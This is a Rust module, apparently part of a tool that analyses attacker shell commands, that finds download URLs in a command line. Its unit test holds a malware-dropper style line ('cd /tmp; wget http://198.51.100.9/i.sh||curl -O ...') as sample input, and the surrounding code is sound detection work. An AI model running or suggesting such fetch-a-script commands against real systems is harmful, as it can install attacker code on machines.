//! Addresses in what somebody said, and what stands between his commands.

use alloc::vec::Vec;

/// Addresses of one line that are told.
const DOWNLOADS_MAX: usize = 8;
const SCHEMES: [&[u8]; 4] = [b"http://", b"https://", b"ftp://", b"tftp://"];

/// What stands between a command and the one before it.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(super) enum Joint {
    /// `;`, `&` or a new line: it runs in any case.
    #[default]
    Then,
    And,
    Or,
}

/// The addresses that a line names, wherever they stand in it.
pub(crate) fn downloads(line: &[u8]) -> Vec<&[u8]> {
    let ends =
        |byte: &u8| byte.is_ascii_whitespace() || matches!(byte, b'\'' | b'"' | b'`' | b';' | b'|' | b'&' | b')' | b'<' | b'>');
    let mut found: Vec<&[u8]> = Vec::new();
    let mut at = 0;
    while let Some(colon) = memchr::memmem::find(&line[at..], b"://") {
        let behind = at + colon + 3;
        let start = SCHEMES.iter().filter_map(|scheme| {
            let start = behind.checked_sub(scheme.len())?;
            line[start..behind].eq_ignore_ascii_case(scheme).then_some(start)
        });
        // The longest scheme that ends here.
        if let Some(start) = start.min() {
            let end = line[behind..].iter().position(ends).map_or(line.len(), |end| behind + end);
            if end > behind {
                found.push(&line[start..end]);
            }
        }
        if found.len() >= DOWNLOADS_MAX {
            break;
        }
        at = behind;
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::drive::said;
    use alloc::string::String;

    #[test]
    fn addresses_are_found_wherever_they_stand() {
        let line = b"cd /tmp; wget http://198.51.100.9/i.sh||curl -O 'HTTPS://b.example/x'; tftp://c ://d http://";
        let found: Vec<String> = downloads(line).into_iter().map(said).collect();
        assert_eq!(found, ["http://198.51.100.9/i.sh", "HTTPS://b.example/x", "tftp://c"]);
        assert_eq!(downloads(&b"http://a ".repeat(50)).len(), DOWNLOADS_MAX);
    }
}
